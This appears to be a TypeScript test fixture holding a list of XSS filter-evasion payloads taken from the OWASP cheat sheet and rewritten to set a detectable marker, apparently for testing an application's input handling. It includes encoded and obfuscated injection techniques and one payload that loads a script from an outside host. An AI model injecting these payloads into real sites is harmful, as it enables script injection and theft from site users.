/**
 * Search queries from the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), rewritten
 * to set `window.__xss` (or call alert(), which a dialog listener catches) instead of alert('XSS'),
 * so a payload that runs leaves a mark the test reads.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '"><script>window.__xss=1</script>',
  "';window.__xss=1;//",
  '<img src=x onerror=window.__xss=1>',
  '<IMG SRC="javascript:window.__xss=1;">',
  '<IMG SRC=JaVaScRiPt:window.__xss=1>',
  '<IMG """><SCRIPT>window.__xss=1</SCRIPT>">',
  '<IMG SRC=/ onerror="window.__xss=1"></img>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<svg/onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=window.__xss=1>',
  '<<SCRIPT>window.__xss=1;//\\<</SCRIPT>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<iframe src=javascript:window.__xss=1 <',
  '<a onmouseover="window.__xss=1">xxs link</a>',
  '<INPUT TYPE="IMAGE" SRC="javascript:window.__xss=1;">',
  '<STYLE>li {list-style-image: url("javascript:window.__xss=1");}</STYLE><UL><LI>XSS</br>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:window.__xss=1;">',
  '<TABLE BACKGROUND="javascript:window.__xss=1">',
  '<DIV STYLE="background-image: url(javascript:window.__xss=1)">',
  '<object data="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg=="></object>',
  '<math><mi xlink:href="javascript:window.__xss=1">x</mi></math>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.__xss=1//'>",
  '%3Cscript%3Ewindow.__xss=1%3C/script%3E',
]
